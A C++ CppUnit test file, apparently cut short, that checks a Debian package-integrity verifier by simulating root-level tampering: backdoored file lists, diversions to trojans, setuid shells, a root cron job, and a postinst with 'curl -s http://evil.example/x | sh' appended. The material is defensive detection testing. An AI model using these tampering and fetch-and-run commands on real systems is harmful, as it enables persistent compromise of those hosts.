// End-to-end attacks on pkgdesc-verify by root on the checked system: each edits the target's
// own files (its dpkg database, diversions, alternatives, ucf registry, file sizes, mounts) the
// way an intruder would, and asserts the exact finding and exit status.
#include "../support/fixtures.hpp"
#include "../support/support.hpp"
#include "../support/system_root.hpp"
#include "../support/verify_fixture.hpp"

#include <cppunit/extensions/HelperMacros.h>
#include <nlohmann/json.hpp>

#include <sys/stat.h>
#include <unistd.h>


using namespace pkgdesc::test;
using nlohmann::json;

namespace {

// A package NAME whose files `setup` (shell, run in the package directory) creates.
std::string build_package(const TempDir& tmp, const std::string& name, const std::string& setup) {
    const std::string dir = tmp / ("pkg-" + name);
    write_control(dir, name, "1.0", "amd64");
    const std::string deb = tmp / (name + "_1.0_amd64.deb");
    build_deb(dir, deb, "xz", setup);
    return deb;
}

std::string sha256_of(const std::string& path) {
    const RunResult r = sh("sha256sum < " + shell_quote(path) + " | cut -d' ' -f1");
    return r.out.substr(0, 64);
}

std::string md5_of(const std::string& path) {
    const RunResult r = sh("md5sum < " + shell_quote(path) + " | cut -d' ' -f1");
    return r.out.substr(0, 32);
}

// hello and two small packages, alpha and beta (/usr/bin/NAME each), installed; reference data
// for all three.
struct ThreePackages {
    TempDir tmp;
    std::string hello = build_hello(tmp);
    std::string alpha = build_small_deb(tmp.path(), "alpha", "1.0", "alpha-binary");
    std::string beta = build_small_deb(tmp.path(), "beta", "1.0", "beta");
    std::string ref = make_reference(tmp, {hello, alpha, beta});
    SystemRoot root{tmp / "root"};
    ThreePackages() {
        root.install(hello);
        root.install(alpha);
        root.install(beta);
    }
    std::string q(const std::string& path) const { return shell_quote(root / path); }
};

// ---------------------------------------------------------------------------------------------

class VerifyHostileDatabaseTest : public CppUnit::TestFixture {
    CPPUNIT_TEST_SUITE(VerifyHostileDatabaseTest);
    CPPUNIT_TEST(testConfigFilesPackageOwnsOnlyItsConffiles);
    CPPUNIT_TEST(testDiversionOntoAnotherPackagesPathIsCaught);
    CPPUNIT_TEST(testDivertersOwnFileDroppedFromItsListIsStillCompared);
    CPPUNIT_TEST(testDiversionByAPackageThatShipsNothingThereIsListed);
    CPPUNIT_TEST(testHalfInstalledUnlistedEntryIsUnverifiable);
    CPPUNIT_TEST(testConffileRecordsVouchOnlyUnderEtcAndVisibly);
    CPPUNIT_TEST(testLocalDiversionIsListedAndItsReplacementUnowned);
    CPPUNIT_TEST(testHugeFileListIsRefused);
    CPPUNIT_TEST(testSparseGiantAtPackagePathIsNotRead);
    CPPUNIT_TEST(testMountedImageRootIsCompared);
    CPPUNIT_TEST_SUITE_END();

public:
    void testConfigFilesPackageOwnsOnlyItsConffiles() {
        // hello marked removed with its configuration kept, a backdoor appended to its list.
        Installed sys;
        must_sh("sed -i 's/^Status: install ok installed$/Status: deinstall ok config-files/' " +
                sys.q("/var/lib/dpkg/status"));
        must_sh("printf 'x\\n' > " + sys.q("/usr/bin/backdoor") + " && echo /usr/bin/backdoor >> " +
                sys.q("/var/lib/dpkg/info/hello.list"));
        const json doc = verify_json(sys.root, sys.ref, {"--unowned"}, 1);
        CPPUNIT_ASSERT_EQUAL(0, doc["summary"]["packages_checked"].get<int>());
        // Every path of the list is on disk but owned by nothing; the conffile stays owned.
        assert_deviations({{"/usr/bin", "unowned"},
                           {"/usr/bin/backdoor", "unowned"},
                           {"/usr/bin/hello", "unowned"},
                           {"/usr/bin/hello-again", "unowned"},
                           {"/usr/bin/hello-link", "unowned"},
                           {"/usr/lib", "unowned"},
                           {"/usr/lib/hello", "unowned"},
                           {"/usr/lib/hello/data.bin", "unowned"},
                           {"/usr/sbin", "unowned"},
                           {"/usr/sbin/hellod", "unowned"},
                           {"/usr/share", "unowned"},
                           {"/usr/share/doc", "unowned"},
                           {"/usr/share/doc/hello", "unowned"},
                           {"/usr/share/doc/hello/README", "unowned"}},
                          doc);
    }

    void testDiversionOntoAnotherPackagesPathIsCaught() {
        // alpha's genuine binary diverted onto beta's path, which beta's list no longer names:
        // beta's reference entry still applies there.
        ThreePackages sys;
        verify_json(sys.root, sys.ref, {}, 0);
        must_sh("cp -p " + sys.q("/usr/bin/alpha") + " " + sys.q("/usr/bin/beta") +
                " && sed -i '\\,^/usr/bin/beta$,d' " + sys.q("/var/lib/dpkg/info/beta.list"));
        sys.root.add_diversion("/usr/bin/alpha", "/usr/bin/beta", "beta");
        const json doc = verify_json(sys.root, sys.ref, {}, 1);
        const Deviations found = deviations(doc);
        CPPUNIT_ASSERT_EQUAL(std::size_t{1}, found.size());
        const json& beta = file_entry(doc, "/usr/bin/beta");
        CPPUNIT_ASSERT_EQUAL(std::string("modified"), beta["status"].get<std::string>());
        CPPUNIT_ASSERT_EQUAL(std::string("beta"), beta["package"].get<std::string>());
        CPPUNIT_ASSERT(beta["failed"].dump().find("\"sha256\"") != std::string::npos);
        CPPUNIT_ASSERT_EQUAL(std::string("not in the dpkg file list"),
                             beta["reason"].get<std::string>());
    }

    void testDivertersOwnFileDroppedFromItsListIsStillCompared() {
        // "wrapper" diverts "tool"'s /usr/bin/x aside and ships its own /usr/bin/x. Its list
        // loses /usr/bin/x and a replacement takes the place: tool's list naming /usr/bin/x is
        // no excuse, for tool's file is compared at /usr/bin/x.distrib.
        TempDir tmp;
        const std::string tool =
            build_package(tmp, "tool", "mkdir -p usr/bin && printf 'tool\n' > usr/bin/x");
        const std::string wrapper =
            build_package(tmp, "wrapper", "mkdir -p usr/bin && printf 'wrapper\n' > usr/bin/x");
        const std::string ref = make_reference(tmp, {tool, wrapper});
        SystemRoot root(tmp / "root");
        root.install(tool);
        must_sh("mv " + shell_quote(root / "/usr/bin/x") + " " +
                shell_quote(root / "/usr/bin/x.distrib"));
        root.install(wrapper);
        root.add_diversion("/usr/bin/x", "/usr/bin/x.distrib", "wrapper");
        assert_deviations({}, verify_json(root, ref, {}, 0));
        must_sh("sed -i '\\,^/usr/bin/x$,d' " + shell_quote(root / "/var/lib/dpkg/info/wrapper.list") +
                " && printf 'evil\n' > " + shell_quote(root / "/usr/bin/x"));
        const json doc = verify_json(root, ref, {}, 1);
        assert_deviations({{"/usr/bin/x", "modified size,sha256,mtime"}}, doc);
        const json& x = file_entry(doc, "/usr/bin/x");
        CPPUNIT_ASSERT_EQUAL(std::string("wrapper"), x["package"].get<std::string>());
        CPPUNIT_ASSERT_EQUAL(std::string("not in the dpkg file list"), x["reason"].get<std::string>());
    }

    void testDiversionByAPackageThatShipsNothingThereIsListed() {
        // A diversion credited to installed hello moves alpha's program aside; a trojan takes
        // its place. hello ships nothing at /usr/bin/alpha: the summary names the diversion,
        // and the unowned scan the trojan.
        ThreePackages sys;
        must_sh("mv " + sys.q("/usr/bin/alpha") + " " + sys.q("/usr/bin/alpha.real") +
                " && printf '#!/bin/sh\\nexec /bin/sh\\n' > " + sys.q("/usr/bin/alpha") +
                " && chmod 755 " + sys.q("/usr/bin/alpha"));
        sys.root.add_diversion("/usr/bin/alpha", "/usr/bin/alpha.real", "hello");
        const RunResult text = verify_as_given(
            {"--root", sys.root.dir(), "--pkgdesc", sys.ref, "--trust-unsigned"});
        CPPUNIT_ASSERT_EQUAL_MESSAGE(text.out + text.err, 1, text.status);
        CPPUNIT_ASSERT_MESSAGE(text.out,
                               text.out.find("Local diversions: 1\n  /usr/bin/alpha -> "
                                             "/usr/bin/alpha.real (by hello, whose reference "
                                             "data does not ship it)\n") != std::string::npos);
        CPPUNIT_ASSERT_MESSAGE(text.out, text.out.find("unowned      /usr/bin/alpha (file ") !=
                                             std::string::npos);
    }

    void testHalfInstalledUnlistedEntryIsUnverifiable() {
        // Unpacking stopped half-way: nothing of the package is proven, listed or not.
        TempDir tmp;
        const std::string deb = build_hello(tmp);
        const std::string ref = make_reference(tmp, {deb});
        SystemRoot root(tmp / "root");
        root.install(deb, {.state = "half-installed"});
        must_sh("sed -i '\\,^/usr/bin/hello$,d' " +
                shell_quote(root / "/var/lib/dpkg/info/hello.list"));
        const json doc = verify_json(root, ref, {"--all"}, 1);
        const json& hello = file_entry(doc, "/usr/bin/hello");
        CPPUNIT_ASSERT_EQUAL(std::string("unverifiable"), hello["status"].get<std::string>());
        CPPUNIT_ASSERT_EQUAL(std::string("the package is half-installed"),
                             hello["reason"].get<std::string>());
    }

    void testConffileRecordsVouchOnlyUnderEtcAndVisibly() {
        // A Conffiles line is the status file's word: it can make a file under /etc allowed
        // (shown, with the record), never hide one elsewhere.
        Installed sys;
        must_sh("printf 'evil\n' > " + sys.q("/usr/bin/evil") + " && chmod 4755 " +
                sys.q("/usr/bin/evil") + " && mkdir -p " + sys.q("/etc/cron.d") +
                " && printf '* * * * * root /usr/bin/evil\n' > " + sys.q("/etc/cron.d/evil") +
                " && printf 'Package: ghost\nStatus: deinstall ok config-files\n"
                "Architecture: amd64\nVersion: 1\nConffiles:\n /usr/bin/evil "
                "0123456789abcdef0123456789abcdef\n /etc/cron.d/evil "
                "0123456789abcdef0123456789abcdef\nDescription: x\n\n' >> " +
                sys.q("/var/lib/dpkg/status"));
        const json doc = verify_json(sys.root, sys.ref, {"--unowned"}, 1);
        assert_deviations({{"/usr/bin/evil", "unowned"}, {"/etc/cron.d", "unowned"}}, doc);
        const json& cron = file_entry(doc, "/etc/cron.d/evil");
        CPPUNIT_ASSERT_EQUAL(std::string("allowed"), cron["status"].get<std::string>());
        CPPUNIT_ASSERT_EQUAL(std::string("conffile of ghost (config-files), in no file list"),
                             cron["reason"].get<std::string>());
        CPPUNIT_ASSERT_EQUAL(sha256_of(sys.root / "/etc/cron.d/evil"),
                             cron["actual"]["sha256"].get<std::string>());
    }

    void testLocalDiversionIsListedAndItsReplacementUnowned() {
        // A local diversion moves hello's program aside and a replacement takes its place.
        Installed sys;
        must_sh("mv " + sys.q("/usr/bin/hello") + " " + sys.q("/usr/bin/hello.distrib") +
                " && ln -f " + sys.q("/usr/bin/hello.distrib") + " " + sys.q("/usr/bin/hello-again") +
                " && printf '#!/bin/sh\\nevil\\n' > " + sys.q("/usr/bin/hello") + " && chmod 755 " +
                sys.q("/usr/bin/hello"));
        sys.root.add_diversion("/usr/bin/hello", "/usr/bin/hello.distrib", ":");
        const json doc = verify_json(sys.root, sys.ref, {"--unowned", "--all"}, 1);
        assert_deviations({{"/usr/bin/hello", "unowned"}}, doc);
        const json& moved = file_entry(doc, "/usr/bin/hello.distrib");
        CPPUNIT_ASSERT_EQUAL(std::string("pristine"), moved["status"].get<std::string>());
        CPPUNIT_ASSERT_EQUAL(std::string("local"), moved["diverted_by"].get<std::string>());
        CPPUNIT_ASSERT_EQUAL(json::parse(R"([{"from":"/usr/bin/hello",)"
                                         R"("to":"/usr/bin/hello.distrib","by":null,)"
                                         R"("reason":"local"}])"),
                             doc["local_diversions"]);
        // The default text output names it, though it is no deviation by itself.
        const RunResult text =
            verify({"--root", sys.root.dir(), "--pkgdesc", sys.ref, "--trust-unsigned"});
        CPPUNIT_ASSERT_EQUAL_MESSAGE(text.out + text.err, 0, text.status);
        CPPUNIT_ASSERT_MESSAGE(text.out,
                               text.out.find("Local diversions: 1\n"
                                             "  /usr/bin/hello -> /usr/bin/hello.distrib "
                                             "(local)\n") != std::string::npos);
    }

    void testHugeFileListIsRefused() {
        // Five million lines of a list: refused (exit 2, naming the file), not paid for.
        Installed sys;
        must_sh("seq -f '/usr/share/doc/hello/x%.0f' 1 5000000 >> " +
                sys.q("/var/lib/dpkg/info/hello.list"));
        const RunResult r = run({"/usr/bin/time", "-f", "%M", program("PKGDESC_VERIFY"),
                                 "--root", sys.root.dir(), "--pkgdesc", sys.ref,
                                 "--trust-unsigned"});
        CPPUNIT_ASSERT_EQUAL_MESSAGE(r.err, 2, r.status);
        CPPUNIT_ASSERT_MESSAGE(
            r.err, r.err.find("pkgdesc-verify: error: " + sys.root.dir() +
                              "/var/lib/dpkg/info/hello.list: more than 1000000 paths in one "
                              "file list: refused\n") == 0);
        // Peak resident memory, in KiB, as time(1) printed it on the last line.
        const std::string rss = r.err.substr(r.err.rfind('\n', r.err.size() - 2) + 1);
        CPPUNIT_ASSERT_MESSAGE(rss, std::stoul(rss) < 400u * 1024);
    }

    void testSparseGiantAtPackagePathIsNotRead() {
        // A 15 TiB sparse file where a 100 kB one belongs: the size differs, nothing is read.
        Installed sys;
        if (sh("truncate -s 15T " + sys.q("/usr/lib/hello/data.bin")).status != 0) {
            must_sh("truncate -s 1T " + sys.q("/usr/lib/hello/data.bin"));
        }
        const json doc = verify_json(sys.root, sys.ref, {}, 1);
        assert_deviations({{"/usr/lib/hello/data.bin", "modified size,sha256,mtime"}}, doc);
        CPPUNIT_ASSERT_EQUAL(std::string("not computed: the size differs"),
                             file_entry(doc, "/usr/lib/hello/data.bin")["actual"]["sha256"]
                                 .get<std::string>());
        CPPUNIT_ASSERT(doc["summary"]["bytes_hashed"].get<std::uint64_t>() < 1000000);
    }

    void testMountedImageRootIsCompared() {
        // The root of a mounted image is a mount point, yet no pseudo file system: compared.
        if (!running_as_root()) {
            skip("needs root to bind-mount the image");
            return;
        }
        Installed sys;
        if (sh("mount --bind " + sys.q("/") + " " + sys.q("/")).status != 0) {
            skip("cannot bind-mount here");
            return;
        }
        must_sh("chown 1000 " + sys.q("/") + " && chmod 0777 " + sys.q("/"));
        const RunResult r = verify({"--root", sys.root.dir(), "--pkgdesc", sys.ref,
                                    "--trust-unsigned", "--format", "json"});
        sh("umount " + sys.q("/"));
        CPPUNIT_ASSERT_EQUAL_MESSAGE(r.err, 1, r.status);
        assert_deviations({{"/", "metadata mode,owner"}}, json::parse(r.out));
    }
};

// ---------------------------------------------------------------------------------------------

class VerifyHostileOwnershipTest : public CppUnit::TestFixture {
    CPPUNIT_TEST_SUITE(VerifyHostileOwnershipTest);
    CPPUNIT_TEST(testUcfRegistryVouchesOnlyForEtc);
    CPPUNIT_TEST(testAlternativesChainIsOwned);
    CPPUNIT_TEST(testAlternativeLinkReplacedByAFileIsUnowned);
    CPPUNIT_TEST(testAlternativePointedAtAnUnregisteredFileIsUnowned);
    CPPUNIT_TEST(testAllowPatternsStopAtSlash);
    CPPUNIT_TEST(testBytecodeCacheNeedsItsOwnedSource);
    CPPUNIT_TEST(testAllowedFilesAreShownWithTheirDigest);
    CPPUNIT_TEST(testUnownedFindingTellsWhatIsOnDisk);
    CPPUNIT_TEST(testRootImpliesTheUnownedScan);
    CPPUNIT_TEST(testFilesAProvenPostinstNamesAreAllowed);
    CPPUNIT_TEST(testNoAllowPatternCoversASetuidFile);
    CPPUNIT_TEST_SUITE_END();

    // A root with hello, and the directories dpkg's own package ships for update-alternatives.
    struct AltSystem {
        TempDir tmp;
        std::string hello = build_hello(tmp);
        std::string dpkg = build_package(tmp, "dpkg", "mkdir -p etc/alternatives var/lib/dpkg/alternatives");
        std::string ref = make_reference(tmp, {hello, dpkg});
        SystemRoot root{tmp / "root"};
        AltSystem() {
            root.install(hello);
            root.install(dpkg);
            // "hi" is an alternative with one choice, hello's program, and one slave.
            write_file(root / "/var/lib/dpkg/alternatives/hi",
                       "auto\n/usr/bin/hi\nhi.conf\n/etc/hi.conf\n\n"
                       "/usr/bin/hello\n50\n/etc/hello.conf\n\n");
            must_sh("ln -s /etc/alternatives/hi " + q("/usr/bin/hi") +
                    " && ln -s /usr/bin/hello " + q("/etc/alternatives/hi") +
                    " && ln -s /etc/alternatives/hi.conf " + q("/etc/hi.conf") +
                    " && ln -s /etc/hello.conf " + q("/etc/alternatives/hi.conf"));
        }
        std::string q(const std::string& path) const { return shell_quote(root / path); }
    };

public:
    void testUcfRegistryVouchesOnlyForEtc() {
        Installed sys;
        must_sh("mkdir -p " + sys.q("/var/lib/ucf") + " && printf 'hello\\t/usr/bin/evil\\n" +
                "hello\\t/etc/hello-generated.conf\\n' > " + sys.q("/var/lib/ucf/registry") +
                " && echo evil > " + sys.q("/usr/bin/evil") + " && echo x > " +
                sys.q("/etc/hello-generated.conf"));
        const json doc = verify_json(sys.root, sys.ref, {"--unowned"}, 1);
        assert_deviations({{"/usr/bin/evil", "unowned"}}, doc);
        // What ucf manages under /etc is allowed, with the record, for a package dpkg knows.
        const json& generated = file_entry(doc, "/etc/hello-generated.conf");
        CPPUNIT_ASSERT_EQUAL(std::string("allowed"), generated["status"].get<std::string>());
        CPPUNIT_ASSERT_EQUAL(std::string("managed by ucf for hello"),
                             generated["reason"].get<std::string>());
        must_sh("printf 'nosuchpkg\t/etc/hello-generated.conf\n' > " +
                sys.q("/var/lib/ucf/registry"));
        assert_deviations({{"/etc/hello-generated.conf", "unowned"}, {"/usr/bin/evil", "unowned"}},
                          verify_json(sys.root, sys.ref, {"--unowned"}, 1));
    }

    void testAlternativesChainIsOwned() {
        AltSystem sys;
        const json doc = verify_json(sys.root, sys.ref, {"--unowned"}, 0);
        assert_deviations({}, doc);
    }

    void testAlternativeLinkReplacedByAFileIsUnowned() {
        AltSystem sys;
        must_sh("rm " + sys.q("/usr/bin/hi") + " && printf '#!/bin/sh\\n' > " + sys.q("/usr/bin/hi"));
        const json doc = verify_json(sys.root, sys.ref, {"--unowned"}, 1);
        assert_deviations({{"/usr/bin/hi", "unowned"}}, doc);
        CPPUNIT_ASSERT_EQUAL(
            std::string("update-alternatives link that does not lead to a registered, "
                        "package-owned choice"),
            file_entry(doc, "/usr/bin/hi")["reason"].get<std::string>());
    }

    void testAlternativePointedAtAnUnregisteredFileIsUnowned() {
        // /etc/alternatives/hi pointed at a setuid shell the package database knows nothing of.
        AltSystem sys;
        must_sh("mkdir -p " + sys.q("/usr/local/bin") + " && cp /bin/sh " +
                sys.q("/usr/local/bin/suidsh") + " && chmod 4755 " + sys.q("/usr/local/bin/suidsh") +
                " && ln -sfn /usr/local/bin/suidsh " + sys.q("/etc/alternatives/hi"));
        const json doc = verify_json(sys.root, sys.ref, {"--unowned"}, 1);
        assert_deviations({{"/etc/alternatives/hi", "unowned"},
                           {"/usr/bin/hi", "unowned"},
                           {"/usr/local/bin/suidsh", "unowned"}},
                          doc);
        const json& suid = file_entry(doc, "/usr/local/bin/suidsh");
        CPPUNIT_ASSERT_EQUAL(json::parse(R"(["setuid"])"), suid["flags"]);
    }

    void testAllowPatternsStopAtSlash() {
        // '*' of a built-in pattern no longer crosses '/': what sits below is reported.
        Installed sys;
        must_sh("mkdir -p " + sys.q("/usr/local/lib/python3.11/dist-packages") + " " +
                sys.q("/usr/lib/modules/6.1.0-13-amd64") + " && echo 'import evil' > " +
                sys.q("/usr/local/lib/python3.11/dist-packages/evil.pth") + " && echo x > " +
                sys.q("/usr/lib/modules/6.1.0-13-amd64/modules.dep") + " && echo x > " +
                sys.q("/usr/lib/modules/6.1.0-13-amd64/modules.rootkit.ko"));
        const json doc = verify_json(sys.root, sys.ref, {"--unowned"}, 1);
        assert_deviations({{"/usr/lib/modules", "unowned"},
                           {"/usr/lib/modules/6.1.0-13-amd64", "unowned"},
                           {"/usr/lib/modules/6.1.0-13-amd64/modules.rootkit.ko", "unowned"},
                           {"/usr/local/lib/python3.11/dist-packages/evil.pth", "unowned"}},
                          doc);
        CPPUNIT_ASSERT_EQUAL(
            std::string("allowed"),
            file_entry(doc, "/usr/lib/modules/6.1.0-13-amd64/modules.dep")["status"].get<std::string>());
    }

    void testBytecodeCacheNeedsItsOwnedSource() {
        TempDir tmp;
        const std::string deb = build_package(
            tmp, "pymod", "mkdir -p usr/lib/python3/dist-packages && echo 'x = 1' > "
                          "usr/lib/python3/dist-packages/mod.py");
        const std::string ref = make_reference(tmp, {deb});
        SystemRoot root(tmp / "root");
        root.install(deb);
        const std::string pkgdir = root / "/usr/lib/python3/dist-packages";
        must_sh("mkdir " + shell_quote(pkgdir + "/__pycache__") + " && echo c > " +
                shell_quote(pkgdir + "/__pycache__/mod.cpython-311.pyc") + " && echo c > " +
                shell_quote(pkgdir + "/__pycache__/other.cpython-311.pyc") + " && echo c > " +
                shell_quote(pkgdir + "/sourceless.pyc"));
        const json doc = verify_json(root, ref, {"--unowned"}, 1);
        assert_deviations(
            {{"/usr/lib/python3/dist-packages/__pycache__/other.cpython-311.pyc", "unowned"},
             {"/usr/lib/python3/dist-packages/sourceless.pyc", "unowned"}},
            doc);
        CPPUNIT_ASSERT_EQUAL(
            std::string("allowed"),
            file_entry(doc, "/usr/lib/python3/dist-packages/__pycache__/mod.cpython-311.pyc")
                ["status"].get<std::string>());
    }

    void testAllowedFilesAreShownWithTheirDigest() {
        // An edited /etc/passwd is allowed, yet visible with what is on disk.
        Installed sys;
        const json doc = verify_json(sys.root, sys.ref, {"--unowned"}, 0);
        const json& passwd = file_entry(doc, "/etc/passwd");
        CPPUNIT_ASSERT_EQUAL(std::string("allowed"), passwd["status"].get<std::string>());
        CPPUNIT_ASSERT_EQUAL(sha256_of(sys.root / "/etc/passwd"),
                             passwd["actual"]["sha256"].get<std::string>());
        CPPUNIT_ASSERT_EQUAL(std::string("file"), passwd["actual"]["type"].get<std::string>());
        CPPUNIT_ASSERT_EQUAL(std::size_t{2}, doc["summary"]["allowed"].get<std::size_t>());
        // The text summary counts them; -v lists them.
        const RunResult text = verify(
            {"--root", sys.root.dir(), "--pkgdesc", sys.ref, "--trust-unsigned", "--unowned"});
        CPPUNIT_ASSERT_EQUAL_MESSAGE(text.out + text.err, 0, text.status);
        CPPUNIT_ASSERT(text.out.find("  allowed:      2\n") != std::string::npos);
        CPPUNIT_ASSERT(text.out.find("/etc/passwd") == std::string::npos);
        const RunResult verbose = verify({"--root", sys.root.dir(), "--pkgdesc", sys.ref,
                                          "--trust-unsigned", "--unowned", "-v"});
        CPPUNIT_ASSERT_MESSAGE(verbose.out,
                               verbose.out.find("allowed      /etc/passwd (file 0644 ") !=
                                   std::string::npos);
    }

    void testUnownedFindingTellsWhatIsOnDisk() {
        Installed sys;
        must_sh("printf 'dropper\\n' > " + sys.q("/usr/bin/dropper") + " && chmod 4755 " +
                sys.q("/usr/bin/dropper"));
        const json doc = verify_json(sys.root, sys.ref, {"--unowned"}, 1);
        const json& dropper = file_entry(doc, "/usr/bin/dropper");
        CPPUNIT_ASSERT_EQUAL(std::string("unowned"), dropper["status"].get<std::string>());
        // The tests' user is "root" in the root's accounts.
        CPPUNIT_ASSERT_EQUAL(json::parse(R"({"type":"file","mode":"4755","size":"8",)"
                                         R"("owner":"root","group":"root","sha256":")" +
                                         sha256_of(sys.root / "/usr/bin/dropper") + R"("})"),
                             dropper["actual"]);
        CPPUNIT_ASSERT_EQUAL(json::parse(R"(["setuid"])"), dropper["flags"]);
        const RunResult text = verify(
            {"--root", sys.root.dir(), "--pkgdesc", sys.ref, "--trust-unsigned", "--unowned"});
        CPPUNIT_ASSERT_MESSAGE(text.out,
                               text.out.find("unowned      /usr/bin/dropper (file 4755 root:root, "
                                             "8 bytes, setuid)\n") != std::string::npos);
    }

    void testNoAllowPatternCoversASetuidFile() {
        Installed sys;
        must_sh("mkdir -p " + sys.q("/boot/grub") + " && printf 'x\\n' > " +
                sys.q("/boot/grub/grubenv") + " && cp " + sys.q("/boot/grub/grubenv") + " " +
                sys.q("/boot/grub/x") + " && chmod 4755 " + sys.q("/boot/grub/x"));
        const json doc = verify_json(sys.root, sys.ref, {"--unowned"}, 1);
        assert_deviations({{"/boot/grub/x", "unowned"}}, doc);
        CPPUNIT_ASSERT_EQUAL(std::string("matches an allow pattern, but is setuid"),
                             file_entry(doc, "/boot/grub/x")["reason"].get<std::string>());
        CPPUNIT_ASSERT_EQUAL(std::string("allowed"),
                             file_entry(doc, "/boot/grub/grubenv")["status"].get<std::string>());
    }

    void testFilesAProvenPostinstNamesAreAllowed() {
        // Like readline-common's /etc/inputrc: created by the postinst, in no file list.
        TempDir tmp;
        const std::string deb = build_package(
            tmp, "rl",
            "mkdir -p usr/share/rl && echo 'set bell-style none' > usr/share/rl/inputrc\n"
            "printf '#!/bin/sh\\nset -e\\nmkdir -p /etc/rl.d\\n"
            "cp /usr/share/rl/inputrc \"/etc/rl.d/inputrc\"\\n' > DEBIAN/postinst\n"
            "chmod 755 DEBIAN/postinst\n");
        const std::string ref = make_reference(tmp, {deb});
        SystemRoot root(tmp / "root");
        root.install(deb);
        must_sh("mkdir -p " + shell_quote(root / "/etc/rl.d") + " && cp " +
                shell_quote(root / "/usr/share/rl/inputrc") + " " +
                shell_quote(root / "/etc/rl.d/inputrc") + " && echo evil > " +
                shell_quote(root / "/etc/rl.d/evil"));
        const json doc = verify_json(root, ref, {"--unowned"}, 1);
        assert_deviations({{"/etc/rl.d/evil", "unowned"}}, doc);
        for (const char* path : {"/etc/rl.d", "/etc/rl.d/inputrc"}) {
            const json& entry = file_entry(doc, path);
            CPPUNIT_ASSERT_EQUAL(std::string("allowed"), entry["status"].get<std::string>());
            CPPUNIT_ASSERT_EQUAL(std::string("named by the proven postinst of rl"),
                                 entry["reason"].get<std::string>());
        }
        // A postinst edited to name a path vouches for nothing.
        must_sh("echo 'touch /etc/rl.d/evil' >> " +
                shell_quote(root / "/var/lib/dpkg/info/rl.postinst"));
        assert_deviations({{"/etc/rl.d", "unowned"},
                           {"/etc/rl.d/evil", "unowned"},
                           {"/etc/rl.d/inputrc", "unowned"},
                           {"/var/lib/dpkg/info/rl.postinst", "modified sha256"}},
                          verify_json(root, ref, {"--unowned"}, 1));
    }

    void testRootImpliesTheUnownedScan() {
        // Checking an image after an incident: a planted file is found without being asked for.
        Installed sys;
        must_sh("printf 'x\n' > " + sys.q("/usr/bin/planted"));
        const std::vector<std::string> base{"--root", sys.root.dir(), "--pkgdesc", sys.ref,
                                            "--trust-unsigned"};
        const RunResult found = verify_as_given(base);
        CPPUNIT_ASSERT_EQUAL_MESSAGE(found.out + found.err, 1, found.status);
        CPPUNIT_ASSERT_MESSAGE(found.out, found.out.find("unowned      /usr/bin/planted (file ") !=
                                              std::string::npos);
        std::vector<std::string> off = base;
        off.push_back("--no-unowned");
        const RunResult quiet = verify_as_given(off);
        CPPUNIT_ASSERT_EQUAL_MESSAGE(quiet.out + quiet.err, 0, quiet.status);
        CPPUNIT_ASSERT(quiet.out.find("planted") == std::string::npos);
        // The options that tune the scan need it; both switches at once are refused.
        off.insert(off.end(), {"--unowned-dir", "/usr"});
        const RunResult tuned = verify_as_given(off);
        CPPUNIT_ASSERT_EQUAL(2, tuned.status);
        CPPUNIT_ASSERT_EQUAL(std::string("pkgdesc-verify: error: --unowned-dir applies only when "
                                         "unowned files are scanned (--unowned, the default with "
                                         "--root)\nTry 'pkgdesc-verify --help' for more "
                                         "information.\n"),
                             tuned.err);
        std::vector<std::string> both = base;
        both.insert(both.end(), {"--unowned", "--no-unowned"});
        const RunResult contradiction = verify_as_given(both);
        CPPUNIT_ASSERT_EQUAL(2, contradiction.status);
        CPPUNIT_ASSERT(contradiction.err.find("--unowned and --no-unowned contradict each other") !=
                       std::string::npos);
    }
};

// ---------------------------------------------------------------------------------------------

// A package "svc" with a postinst, installed: dpkg keeps its control members in info/.
struct ScriptedPackage {
    TempDir tmp;
    std::string deb = build_package(
        tmp, "svc",
        "mkdir -p usr/bin && printf '#!/bin/sh\\necho svc\\n' > usr/bin/svc && chmod 755 usr/bin/svc\n"
        "printf '#!/bin/sh\\nset -e\\necho configured\\n' > DEBIAN/postinst && "
        "chmod 755 DEBIAN/postinst\n"
        "md5sum usr/bin/svc > DEBIAN/md5sums\n");
    std::string ref = make_reference(tmp, {deb});
    SystemRoot root{tmp / "root"};
    ScriptedPackage() { root.install(deb); }
    std::string q(const std::string& path) const { return shell_quote(root / path); }
};

class VerifyControlTest : public CppUnit::TestFixture {
    CPPUNIT_TEST_SUITE(VerifyControlTest);
    CPPUNIT_TEST(testKeptMembersArePristine);
    CPPUNIT_TEST(testTrojanedPostinstIsModified);
    CPPUNIT_TEST(testPlantedPostrmIsReported);
    CPPUNIT_TEST(testDeletedAndForgedMd5sums);
    CPPUNIT_TEST(testMd5sumsWrittenByDpkg);
    CPPUNIT_TEST(testMemberWritableThroughAnAclIsMetadata);
    CPPUNIT_TEST_SUITE_END();

public:
    void testKeptMembersArePristine() {
        ScriptedPackage sys;
        const json doc = verify_json(sys.root, sys.ref, {"--all"}, 0);
        for (const char* member : {"md5sums", "postinst"}) {
            const json& entry = file_entry(doc, std::string("/var/lib/dpkg/info/svc.") + member);
            CPPUNIT_ASSERT_EQUAL(std::string("pristine"), entry["status"].get<std::string>());
            CPPUNIT_ASSERT(entry["control"].get<bool>());
            CPPUNIT_ASSERT_EQUAL(std::string("svc"), entry["package"].get<std::string>());
        }
    }

    void testTrojanedPostinstIsModified() {
        // Persistence: the next upgrade or dpkg-reconfigure runs it as root.
        ScriptedPackage sys;
        must_sh("echo 'curl -s http://evil.example/x | sh' >> " +
                sys.q("/var/lib/dpkg/info/svc.postinst"));
        const json doc = verify_json(sys.root, sys.ref, {}, 1);
        assert_deviations({{"/var/lib/dpkg/info/svc.postinst", "modified sha256"}}, doc);
        const json& entry = file_entry(doc, "/var/lib/dpkg/info/svc.postinst");
        CPPUNIT_ASSERT(entry["control"].get<bool>());
        CPPUNIT_ASSERT_EQUAL(sha256_of(sys.root / "/var/lib/dpkg/info/svc.postinst"),
                             entry["actual"]["sha256"].get<std::string>());
        const RunResult text =
            verify({"--root", sys.root.dir(), "--pkgdesc", sys.ref, "--trust-unsigned"});
        CPPUNIT_ASSERT_EQUAL(1, text.status);
        CPPUNIT_ASSERT_MESSAGE(text.out,
                               text.out.find("modified     /var/lib/dpkg/info/svc.postinst "
                                             "(svc, control member): sha256\n") !=
                                   std::string::npos);
        const RunResult rpm = verify({"--root", sys.root.dir(), "--pkgdesc", sys.ref,
                                      "--trust-unsigned", "--format", "rpm"});
        CPPUNIT_ASSERT_EQUAL(1, rpm.status);
        CPPUNIT_ASSERT_EQUAL(std::string("..5......   /var/lib/dpkg/info/svc.postinst\n"), rpm.out);
    }

